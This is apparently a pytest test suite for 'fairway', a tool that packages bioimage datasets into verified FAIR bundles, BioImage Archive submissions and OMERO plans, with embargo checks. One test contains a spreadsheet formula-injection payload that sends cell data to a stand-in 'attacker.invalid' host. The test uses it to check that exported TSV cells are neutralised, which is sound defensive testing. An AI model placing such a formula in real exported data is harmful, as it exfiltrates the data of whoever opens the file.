"""`fairway get`: a verified FAIR bundle with an RO-Crate and a landing page; refusals say why."""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pytest
import tifffile
import yaml
from typer.testing import CliRunner

from flows.cli import app
from ingest.samples import SIDECAR_YAML, write_registry
from tests.factories import age, make_ome_tiff, make_plain_tiff

runner = CliRunner()


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("get")
    inbox = root / "inbox"
    make_ome_tiff(inbox / "open" / "a.ome.tif", seed=3)
    (inbox / "open" / "fairway.yaml").write_text(SIDECAR_YAML, encoding="utf-8")
    make_ome_tiff(inbox / "embargo" / "e.ome.tif", seed=4)
    (inbox / "embargo" / "fairway.yaml").write_text(
        SIDECAR_YAML.replace('release_date: "2026-11-25"', 'release_date: "2999-01-01"'),
        encoding="utf-8",
    )
    make_plain_tiff(inbox / "bare" / "p.tif")
    labelled = make_ome_tiff(inbox / "labelled" / "l.ome.tif", seed=5)
    first = tifffile.imread(labelled).reshape(2, 4, 96, 80)[0]
    mask = (first > np.percentile(first, 80)).astype(np.uint16)
    tifffile.imwrite(labelled.with_name("l.labels.cells.tif"), mask, photometric="minisblack")
    (inbox / "labelled" / "fairway.yaml").write_text(SIDECAR_YAML, encoding="utf-8")
    age(inbox)
    home = root / "home"
    write_registry(home)
    result = runner.invoke(app, ["--home", str(home), "ingest", str(inbox), "--quiet-seconds", "1"])
    assert result.exit_code == 0, result.output
    return home


def _dataset(home: Path, name: str) -> str:
    rows = json.loads(runner.invoke(app, ["--home", str(home), "status", "--json"]).stdout)
    return next(r["dataset"] for r in rows if r["source"].endswith(name))


def test_bundle_is_verified_and_described(home: Path, tmp_path: Path) -> None:
    dataset = _dataset(home, "a.ome.tif")
    result = runner.invoke(app, ["--home", str(home), "get", dataset, str(tmp_path), "--json"])
    assert result.exit_code == 0, result.output
    summary = json.loads(result.stdout)
    bundle = Path(summary["path"])
    assert bundle == tmp_path / dataset and not list(tmp_path.glob(".*partial"))
    # every file listed with a checksum that matches
    import hashlib

    lines = (bundle / "checksums-sha256.txt").read_text(encoding="utf-8").splitlines()
    assert len(lines) == summary["files"] > 10
    for line in lines:
        digest, rel = line.split(maxsplit=1)
        assert hashlib.sha256((bundle / rel).read_bytes()).hexdigest() == digest
    crate = json.loads((bundle / "ro-crate-metadata.json").read_text(encoding="utf-8"))
    graph = {e["@id"]: e for e in crate["@graph"]}
    root = graph["./"]
    assert root["license"]["@id"] == "https://creativecommons.org/licenses/by/4.0/"
    assert root["name"].startswith("Live-cell imaging of EGFP-tagged focal adhesions")
    assert graph[root["author"]["@id"]]["name"] == "Ada Example"  # one: not a list
    assert "http://purl.obolibrary.org/obo/FBbi_00000253" in graph
    assert "http://purl.obolibrary.org/obo/NCBITaxon_9606" in graph
    assert graph["#instrument"]["serialNumber"] == "TI2-552107"
    assert {"gap-report.md", "checksums-sha256.txt", "index.html"} <= set(graph)
    steps = [e for e in graph.values() if str(e["@id"]).startswith("#step-")]
    assert any("archive" in s["name"] for s in steps)
    assert any(
        r.startswith("zarr==") for r in graph["#software-environment"]["softwareRequirements"]
    )
    page = (bundle / "index.html").read_text(encoding="utf-8")
    assert "rembi+nbo-tier1" in page and "napari" in page and "data:image/png;base64," in page
    assert (bundle / "thumbnail.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    # the OME-Zarr opens with ome-zarr-py
    from ome_zarr.io import parse_url
    from ome_zarr.reader import Reader

    nodes = list(Reader(parse_url(str(bundle / f"{dataset}.ome.zarr")))())
    assert nodes and nodes[0].data[0].shape[-2:] == (96, 80)
    again = runner.invoke(app, ["--home", str(home), "get", dataset, str(tmp_path)])
    assert again.exit_code == 2 and "exists already" in again.output


def test_embargoed_and_below_profile_are_refused(home: Path, tmp_path: Path) -> None:
    embargoed = runner.invoke(
        app, ["--home", str(home), "get", _dataset(home, "e.ome.tif"), str(tmp_path)]
    )
    assert embargoed.exit_code == 2 and "embargoed until 2999-01-01" in embargoed.output
    bare = runner.invoke(app, ["--home", str(home), "get", _dataset(home, "p.tif"), str(tmp_path)])
    assert bare.exit_code == 2 and "below its profile" in bare.output and "gaps" in bare.output
    assert list(tmp_path.iterdir()) == []


def _pagetab_sections(text: str) -> list[tuple[str, dict[str, list[str]]]]:
    """Blocks of a PageTab file: (section header, {attribute: values})."""
    out = []
    for block in text.strip().split("\n\n"):
        rows = [line.split("\t") for line in block.splitlines()]
        attrs: dict[str, list[str]] = {}
        for row in rows[1:]:
            attrs.setdefault(row[0], []).append(row[1] if len(row) > 1 else "")
        out.append((rows[0][0], attrs))
    return out


def test_bioimage_archive_package(home: Path, tmp_path: Path) -> None:
    dataset = _dataset(home, "a.ome.tif")
    result = runner.invoke(
        app, ["--home", str(home), "publish", dataset, str(tmp_path), "--to", "bia", "--json"]
    )
    assert result.exit_code == 0, result.output
    folder = Path(json.loads(result.stdout)["path"])
    sections = dict(_pagetab_sections((folder / "submission.tsv").read_text(encoding="utf-8")))
    assert {
        "Submission",
        "Study",
        "Author",
        "Organization",
        "Biosample",
        "Organism",
        "Specimen",
        "Image acquisition",
        "Imaging Method",
        "Study Component",
        "Associations",
    } <= set(sections)
    assert sections["Study"]["License"] == ["CC BY 4.0"]
    assert len(sections["Study"]["Keywords"]) == 4
    assert sections["Organism"]["NCBI taxon ID"] == ["9606"]
    assert sections["Imaging Method"]["Ontology Term ID"] == [
        "http://purl.obolibrary.org/obo/FBbi_00000253"
    ]
    assert sections["Study Component"]["File List"] == ["file_list.tsv"]
    assert sections["Associations"]["Biosample"] == sections["Biosample"]["Title"]
    rows = (folder / "file_list.tsv").read_text(encoding="utf-8").splitlines()
    assert rows[0].split("\t")[0] == "Files"
    listed = rows[1].split("\t")[0]
    assert (folder / listed / "zarr.json").is_file()
    assert (folder / "README.txt").is_file()
    bare = runner.invoke(
        app, ["--home", str(home), "publish", _dataset(home, "p.tif"), str(tmp_path), "--to", "bia"]
    )
    assert bare.exit_code == 2
    assert "below the REMBI required set" in bare.output and "study.title" in bare.output


def test_omero_plan_without_a_server(home: Path) -> None:
    dataset = _dataset(home, "a.ome.tif")
    result = runner.invoke(
        app, ["--home", str(home), "publish", dataset, "--to", "omero", "--dry-run", "--json"]
    )
    assert result.exit_code == 0, result.output
    plan = json.loads(result.stdout)
    assert [a["kind"] for a in plan["actions"]][-3:] == [
        "import_image",
        "annotate_map",
        "attach_file",
    ]
    assert plan["actions"][-3]["transfer"] == "ln_s"  # the setting's default: in place
    upload = runner.invoke(
        app,
        ["--home", str(home), "publish", dataset, "--to", "omero", "--dry-run", "--json"],
        env={"FAIRWAY_OMERO_IN_PLACE": "false"},
    )
    assert json.loads(upload.stdout)["actions"][-3]["transfer"] == "upload"
    live = runner.invoke(app, ["--home", str(home), "publish", dataset, "--to", "omero"])
    assert live.exit_code == 2 and "no OMERO server configured" in live.output


def test_one_release_check_for_every_way_out(home: Path, tmp_path: Path) -> None:
    """Embargo and the profile's level hold for get, BIA, the OMERO plan; search hides it."""
    embargoed = _dataset(home, "e.ome.tif")
    bare = _dataset(home, "p.tif")
    base = ["--home", str(home)]
    for args in (
        ["get", embargoed, str(tmp_path)],
        ["publish", embargoed, str(tmp_path), "--to", "bia"],
        ["publish", embargoed, "--to", "omero", "--dry-run"],
    ):
        result = runner.invoke(app, [*base, *args])
        assert result.exit_code == 2, (args, result.output)
        assert "embargoed until 2999-01-01" in result.output
    plan = runner.invoke(app, [*base, "publish", bare, "--to", "omero", "--dry-run"])
    assert plan.exit_code == 2 and "below its profile" in plan.output
    assert list(tmp_path.iterdir()) == []
    # search: researchers do not see it; curators list it with the date
    hits = json.loads(runner.invoke(app, [*base, "search", "--json"]).stdout)
    assert embargoed not in {h["dataset"] for h in hits}
    assert _dataset(home, "a.ome.tif") in {h["dataset"] for h in hits}
    curator = runner.invoke(app, [*base, "search", "--include-embargoed", "--json"])
    listed = {h["dataset"]: h["embargoed_until"] for h in json.loads(curator.stdout)}
    assert listed[embargoed] == "2999-01-01"


def _bia(home: Path, dataset: str, dest: Path) -> Path:
    result = runner.invoke(
        app, ["--home", str(home), "publish", dataset, str(dest), "--to", "bia", "--json"]
    )
    assert result.exit_code == 0, result.output
    return Path(json.loads(result.stdout)["path"])


def test_bia_pagetab_leaves_the_accession_to_biostudies(home: Path, tmp_path: Path) -> None:
    """Issue 13 item 13: no custom accession, values not reprs, Annotations only with labels."""
    plain = _bia(home, _dataset(home, "a.ome.tif"), tmp_path / "plain")
    text = (plain / "submission.tsv").read_text(encoding="utf-8")
    assert text.splitlines()[0].split("\t") == ["Submission", ""]
    sections = dict(_pagetab_sections(text))
    assert "Annotations" not in sections  # the dataset has no label images
    protocol = yaml.safe_load(SIDECAR_YAML)["specimen"]["sample_preparation_protocol"]
    assert "#1.5 glass-bottom dishes" in protocol  # the demo sidecar keeps text after '#'
    assert sections["Specimen"]["Sample preparation protocol"] == [protocol]
    assert "[" not in text and "]" not in text  # no Python list reprs anywhere
    labelled = _bia(home, _dataset(home, "l.ome.tif"), tmp_path / "labelled")
    sections = dict(_pagetab_sections((labelled / "submission.tsv").read_text(encoding="utf-8")))
    assert sections["Annotations"]["Annotation Type"] == ["segmentation_mask"]
    assert sections["Annotations"]["Annotation Overview"] == [
        "Focal adhesions segmented in every Z plane."
    ]


FORMULA = '=HYPERLINK("http://attacker.invalid/?d="&A1,"x")'


def _cells(text: str) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(text), delimiter="\t"))


def test_bia_tables_neutralise_spreadsheet_formulas(home: Path, tmp_path: Path) -> None:
    """Issue 13 item 3: a formula set by a curator is inert text in every TSV fairway writes.

    (A hostile channel name in file_list.tsv: tests/targets/test_bia.py.)
    """
    dataset = _dataset(home, "l.ome.tif")
    fixed = runner.invoke(
        app,
        [
            "--home",
            str(home),
            "fix",
            dataset,
            "--set",
            f"study.keywords[4]={FORMULA}",
            "--reason",
            "test",
        ],
    )
    assert fixed.exit_code == 0, fixed.output
    folder = _bia(home, dataset, tmp_path)
    submission = (folder / "submission.tsv").read_text(encoding="utf-8")
    file_list = (folder / "file_list.tsv").read_text(encoding="utf-8")
    # OWASP: a single quote before the formula, the cell quoted, inner quotes doubled
    assert '"\'=HYPERLINK(""http://attacker.invalid/?d=""&A1,""x"")"' in submission
    for text in (submission, file_list):
        for row in _cells(text):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    keywords = dict(_pagetab_sections(submission))["Study"]["Keywords"]
    assert len(keywords) == 5  # the four of the sidecar and the curator's
    assert keywords[4] == '"\'=HYPERLINK(""http://attacker.invalid/?d=""&A1,""x"")"'


def test_bundle_crate_passes_roc_validator(home: Path, tmp_path: Path) -> None:
    """Issue 13 item 12: the `get` bundle's RO-Crate, checked offline with roc-validator."""
    from tests.targets.test_archive import check_crate

    dataset = _dataset(home, "a.ome.tif")
    result = runner.invoke(app, ["--home", str(home), "get", dataset, str(tmp_path / "b")])
    assert result.exit_code == 0, result.output
    check_crate(tmp_path / "b" / dataset, tmp_path / "cache")
    archived = home / "archive" / dataset / "data"
    assert archived.is_dir()
    check_crate(archived, tmp_path / "cache")


def test_landing_page_and_cli_snippets_work_as_written(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 13 item 11: every way fairway tells a researcher to open the data opens it."""
    import html
    import re

    import zarr
    from ome_zarr.io import parse_url
    from ome_zarr.reader import Reader

    def nodes(path: str) -> list[object]:  # ome-zarr-py, which napari-ome-zarr reads through
        return [n for n in Reader(parse_url(path))() if n.data]

    dataset = _dataset(home, "a.ome.tif")
    result = runner.invoke(app, ["--home", str(home), "get", dataset, str(tmp_path)])
    assert result.exit_code == 0, result.output
    bundle = tmp_path / dataset
    # the CLI's hint
    hint = next(x for x in result.output.splitlines() if x.startswith("or: napari "))
    assert nodes(hint.removeprefix("or: napari "))
    page = (bundle / "index.html").read_text(encoding="utf-8")
    # the napari command, in the bundle folder
    [shell] = re.findall(r'<code class="language-shell">(.*?)</code>', page, re.S)
    assert nodes(str(bundle / html.unescape(shell).splitlines()[-1].removeprefix("napari ")))
    # the Python snippet, run as written in the bundle folder
    [code] = re.findall(r'<code class="language-python">(.*?)</code>', page, re.S)
    monkeypatch.chdir(bundle)
    names: dict[str, object] = {}
    exec(html.unescape(code), names)  # the page's own snippet, as written
    pixels, level0 = names["pixels"], names["level0"]
    assert isinstance(level0, zarr.Array)
    assert pixels.shape == level0.shape == (1, 2, 4, 96, 80)
    assert (np.asarray(pixels) == level0[:]).all()
